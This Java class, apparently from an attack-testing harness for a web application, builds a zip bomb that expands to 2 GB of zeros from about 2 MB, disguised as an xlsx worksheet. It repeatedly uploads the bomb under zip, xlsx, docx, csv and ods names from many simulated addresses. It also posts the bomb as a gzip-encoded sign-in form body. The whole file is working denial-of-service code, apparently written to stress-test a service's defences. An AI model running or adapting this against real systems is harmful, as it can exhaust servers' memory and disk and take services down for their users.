package attacks;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Small files that hold gigabytes: archive, workbook, workbook in the place of a table, and a gzip body. */
final class Bombs implements Attack {

    private static final List<String> ENDINGS = List.of("zip", "xlsx", "docx", "csv", "ods");
    private static final int ADDRESSES = 50;

    private final Crowd crowd;

    Bombs(Crowd crowd) {
        this.crowd = crowd;
    }

    @Override
    public void run() throws Exception {
        Path file = zipped("xl/worksheets/sheet1.xml");
        byte[] bomb = Files.readAllBytes(file);
        Files.delete(file);
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(Options.SECONDS);
        for (int n = 0; System.nanoTime() < end; n++) {
            try {
                send(n, bomb);
            } catch (IOException closed) {
                crowd.got("closed");
            }
        }
    }

    private void send(int number, byte[] bomb) throws IOException {
        String ending = ENDINGS.get(number % ENDINGS.size());
        String from = Connection.address(7, number % ADDRESSES);
        Person person = new Person(from);
        String name = "bomb-" + number % ENDINGS.size() + "." + ending;
        crowd.got(ending + " " + person.upload(person.signedInUpload(), name, bomb).status());
        crowd.got("gzip form " + new Person(from)
                .post("/sign-in", "application/x-www-form-urlencoded", "Content-Encoding: gzip\r\n", bomb)
                .status());
    }

    /** 2 GB of zeros in 2 MB. */
    private static Path zipped(String entry) throws IOException {
        Path bomb = Files.createTempFile("bomb", ".zip");
        byte[] zeros = new byte[1 << 20];
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(bomb))) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write("<Types/>".getBytes(StandardCharsets.US_ASCII));
            zip.putNextEntry(new ZipEntry(entry));
            for (int i = 0; i < 2_048; i++) {
                zip.write(zeros);
            }
        }
        return bomb;
    }
}
